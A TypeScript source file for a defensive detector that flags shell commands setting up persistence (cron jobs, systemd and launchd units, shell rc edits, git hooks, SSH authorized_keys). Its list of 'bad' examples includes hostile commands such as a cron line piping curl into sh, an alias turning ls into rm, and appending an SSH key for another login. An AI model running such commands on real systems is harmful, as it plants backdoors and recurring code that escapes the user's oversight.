// Code that runs again later: crontab, systemd units, rc-file appends, git hooks, autostart.
import type { Detector, DetectorMeta } from './types.ts';
import type { Finding } from '../types.ts';
import { parseOptions } from '../shell/normalize/index.ts';
import { normalizePath, persistenceReason, type PathInfo } from '../paths/index.ts';
import type { PathRef, PathScope } from '../effects/index.ts';
import { ctxFor, effectsFor, finding, hasArgIn, TARGET_KINDS, text } from './util.ts';

const meta: DetectorMeta = {
  id: 'persistence',
  family: 'persistence',
  title: 'Persistence',
  rationale: 'Scheduled jobs, services, shell rc files and git hooks run code later, outside this session and its checks.',
  behaviour: 'ask',
  examples: {
    bad: ['crontab mycron', 'echo "* * * * * curl x | sh" | crontab -', 'systemctl --user enable evil.service', 'echo "alias ls=rm" >> ~/.bashrc', 'cp hook.sh .git/hooks/pre-commit', 'git config core.hooksPath .githooks', 'at now + 1 minute < job.sh', 'launchctl load ~/Library/LaunchAgents/x.plist', "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"],
    good: ['crontab -l', 'systemctl status nginx', 'cat ~/.bashrc', 'ls .git/hooks', 'git config --get core.hooksPath'],
  },
};

const RC_FILES = new Set(['.bashrc', '.bash_profile', '.bash_login', '.profile', '.zshrc', '.zprofile', '.zshenv', '.zlogin', '.zlogout', '.bash_logout', '.kshrc', '.cshrc', '.tcshrc', '.xprofile', '.xinitrc', '.xsessionrc', 'config.fish', '.inputrc']);
const DIRS = ['/etc/systemd/', '/lib/systemd/', '/usr/lib/systemd/', '/etc/init.d/', '/etc/cron', '/var/spool/cron/', '/etc/profile.d/', '/etc/xdg/autostart/', '/Library/LaunchAgents/', '/Library/LaunchDaemons/', '/etc/rc.d/', '/etc/update-motd.d/'];
const HOME_DIRS = ['.config/systemd/', '.config/autostart/', 'Library/LaunchAgents/', '.local/share/systemd/', '.config/fish/conf.d/', '.bashrc.d/', '.config/environment.d/'];
const FILES = new Set(['/etc/profile', '/etc/bash.bashrc', '/etc/zsh/zshrc', '/etc/zshrc', '/etc/rc.local', '/etc/crontab', '/etc/environment', '/etc/ld.so.preload']);

/** git's subcommand is one of its words: only git config is read. */
const CONFIG = new Set(['config']);

/** home + '/' + each of HOME_DIRS, for the last home seen. */
let lastHome: string | null = null;
let homeDirs: string[] = [];

/**
 * The classification a path reference already has, when it says exactly what the persistence
 * table does of its path: made on classifyPath's literal route (a canonical absolute path, not
 * below /dev or /proc) with no fs port and the same home. Else undefined.
 */
function literalInfo(ref: PathRef, home: string): PathInfo | undefined {
  const info = ref.info;
  if (info === undefined || ref.abs === null) return undefined;
  const sc = ref.scope as PathScope;
  if (sc.fs !== undefined || sc.home !== home) return undefined;
  const p = ref.abs;
  if (info.path !== p || p.startsWith('/proc/') || p.startsWith('/dev/') || normalizePath(p) !== p) return undefined;
  return info;
}

/** `known`: the path's classification (literalInfo), whose persistence reason is the table's. */
function persistentPath(abs: string, home: string, known?: PathInfo): string | null {
  if (home !== lastHome) {
    homeDirs = HOME_DIRS.map((d) => home + '/' + d);
    lastHome = home;
  }
  const base = abs.slice(abs.lastIndexOf('/') + 1);
  if (RC_FILES.has(base)) return `shell startup file ${base}`;
  if ((base === 'authorized_keys' || base === 'authorized_keys2') && abs.includes('/.ssh/')) return 'SSH authorized_keys (a login for someone else)';
  if (FILES.has(abs)) return `system startup file ${abs}`;
  for (const d of DIRS) if (abs.startsWith(d) || (abs.length + 1 === d.length && d.endsWith('/') && d.startsWith(abs))) return `startup directory ${d}`;
  for (let k = 0; k < HOME_DIRS.length; k++) {
    const full = homeDirs[k]!;
    if (abs.startsWith(full) || (abs.length + 1 === full.length && full.endsWith('/') && full.startsWith(abs))) return `startup directory ~/${HOME_DIRS[k]}`;
  }
  const i = abs.indexOf('/.git/hooks');
  if (i >= 0 && (abs.length === i + 11 || abs[i + 11] === '/')) return 'git hook';
  if (abs.includes('/.husky/')) return 'git hook (husky)';
  // the path table's persistence rows (Python .pth and sitecustomize files, …)
  const row = known !== undefined ? (known.why?.persistence ?? null) : persistenceReason(abs, home);
  return row ? `${row} ${abs}` : null;
}

export const persistence: Detector = {
  meta,
  concerns: { effects: ['write', 'mode'], programs: ['crontab', 'systemctl', 'launchctl', 'at', 'batch', 'git', 'chmod'] },
  check(inv, ctx0) {
    const ctx = ctxFor(inv, ctx0);
    const out: Finding[] = [];
    // every path it writes, deletes or changes (as writeTargets lists them)
    for (const e of effectsFor(inv, ctx)) {
      const ref = e.path;
      if (!TARGET_KINDS.has(e.kind) || !ref || ref.abs === null) continue;
      if (e.how === 'rm' || e.how === 'rmdir') continue;
      // the path's classes are usually worked out already (protected-path-write runs first)
      const why = persistentPath(ref.abs, ctx.home, literalInfo(ref, ctx.home));
      if (why) out.push(finding(meta, inv, `${e.how} writes ${why}`, ref.word));
    }
    if (!inv.program.static) return out;
    const name = inv.name;
    const p = name === 'crontab' || name === 'systemctl' || (name === 'git' && hasArgIn(inv, CONFIG)) ? parseOptions(inv) : null;
    if (name === 'crontab' && p && !p.options.has('l') && !p.options.has('V')) out.push(finding(meta, inv, 'crontab installs scheduled jobs'));
    if (name === 'systemctl' && p) {
      const verb = p.operands[0] ? text(p.operands[0]) : '';
      if (verb === 'enable' || verb === 'link' || verb === 'preset' || verb === 'add-wants' || verb === 'add-requires' || verb === 'edit' || verb === 'set-environment') out.push(finding(meta, inv, `systemctl ${verb} makes a unit start later`));
    }
    if ((name === 'launchctl') && inv.args[0] && ['load', 'bootstrap', 'submit', 'enable'].includes(text(inv.args[0]))) out.push(finding(meta, inv, `launchctl ${text(inv.args[0])}`));
    if ((name === 'at' || name === 'batch') && !inv.args.some((w) => ['-l', '-r', '-d', '-c', '-V'].includes(text(w)))) out.push(finding(meta, inv, `${name} schedules a job`));
    if (name === 'git' && p && p.subcommand[0] === 'config') {
      const key = p.operands[0] ? text(p.operands[0]).toLowerCase() : '';
      if (key === 'core.hookspath' && p.operands.length >= 2) out.push(finding(meta, inv, 'git config core.hooksPath points hooks elsewhere'));
    }
    if (name === 'chmod') {
      const pp = parseOptions(inv);
      for (const w of pp.operands.slice(1)) {
        const abs = w.static ? ctx.resolve(w.value ?? '') : null;
        if (abs && persistentPath(abs, ctx.home) === 'git hook' && text(pp.operands[0]).includes('x')) out.push(finding(meta, inv, `chmod enables git hook ${abs}`, w));
      }
    }
    return out;
  },
};
